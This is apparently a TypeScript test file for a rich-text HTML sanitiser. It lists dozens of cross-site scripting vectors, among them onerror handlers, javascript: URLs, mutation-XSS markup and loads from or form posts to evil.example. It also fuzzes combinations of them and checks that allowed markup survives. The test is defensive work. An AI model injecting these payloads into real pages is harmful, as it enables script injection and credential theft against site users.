import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanRichText, RICH_TEXT_ATTRIBUTES, RICH_TEXT_ELEMENTS } from './clean-rich-text.ts'

/** Ways in which scripts have come into pages: elements, handlers, addresses, other languages, broken markup. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.webp" onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="/media/../api/User/SignOut">',
  '<img src="//evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<a href="https://good.example" target="_blank">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="boot" id="root" data-x="1">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x>',
  '<p title="><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p><',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
] as const
const HARMLESS = [
  '<h2>سرتیتر</h2>',
  '<p>متن <strong>مهم</strong></p>',
  '<ul><li>یک</li></ul>',
  'متن',
  '&amp;',
]

const ATTRIBUTE = / ([a-z]+)="([^"<>]*)"/g
const TAG = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( ?\/)?>/g

/** What of a cleaned text is more than allowed elements with allowed attributes. */
function offencesIn(html: string): string[] {
  const rest = html.replace(TAG, '')
  const offences = /[<>]/.test(rest) ? [`stray markup: ${rest}`] : []
  for (const [, , element = '', attributes = ''] of html.matchAll(TAG)) {
    if (!RICH_TEXT_ELEMENTS.includes(element)) offences.push(`element ${element}`)
    for (const [, name = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
      if (!(RICH_TEXT_ATTRIBUTES[element] ?? []).includes(name)) offences.push(`${element} ${name}`)
      const isOwn = /^(?:\/(?![/\\])|#)/.test(value)
      if (name === 'href' && !isOwn && !value.startsWith('https://')) offences.push(`link ${value}`)
      if (name === 'src' && !/^\/media\/(?!.*\.\.)/.test(value)) offences.push(`picture ${value}`)
    }
  }
  return offences
}

describe('a long text that is stored', () => {
  test.each(VECTORS)('keeps nothing that runs of %s', (vector) => {
    const clean = cleanRichText(vector)
    expect(offencesIn(clean)).toEqual([])
    expect(clean).not.toMatch(/onerror=(?![^<]*&gt;)|<script|javascript:(?!alert\(1\)&)/i)
  })

  test('keeps nothing that runs, however such pieces are put together, and is clean after one time', () => {
    const piece = fc.oneof(fc.constantFrom(...VECTORS, ...HARMLESS), fc.string({ maxLength: 12 }))
    const cut = fc.tuple(fc.constantFrom(...VECTORS), fc.nat(60)).map(([vector, at]) => vector.slice(0, at))
    const text = fc.array(fc.oneof(piece, cut), { maxLength: 6 }).map((pieces) => pieces.join(''))
    fc.assert(
      fc.property(text, (html) => {
        const clean = cleanRichText(html)
        expect(offencesIn(clean)).toEqual([])
        expect(cleanRichText(clean)).toBe(clean)
      }),
      { numRuns: 500 },
    )
  })

  test('is clean after one time where an element between two others was taken out', () => {
    const clean = cleanRichText('<p <math><mtext><table><mglyph><style><!--</style><img title="--&gt;">')
    expect(cleanRichText(clean)).toBe(clean)
  })

  test('keeps headings, lists, tables, pictures of ours and links as they were written', () => {
    const written =
      '<h2>نصب</h2><p>متن <strong>مهم</strong><br /></p><ul><li>یک</li></ul>' +
      '<table><tr><th scope="col">دور</th><td colspan="2">۲</td></tr></table>' +
      '<img src="/media/up/abc-640.webp" alt="توربو" width="640" height="480" />' +
      '<p><a href="/p/7" title="توربو">کالا</a> <a href="#install">پایین</a></p>'
    expect(cleanRichText(written)).toBe(written)
  })

  test('says of a foreign link that it is not ours, and keeps the words of a link that leads nowhere good', () => {
    expect(cleanRichText('<a href="https://example.com/x">منبع</a>')).toBe(
      '<a href="https://example.com/x" rel="nofollow noopener noreferrer">منبع</a>',
    )
    expect(cleanRichText('<a href="javascript:alert(1)">بخوانید</a>')).toBe('<a>بخوانید</a>')
  })
})
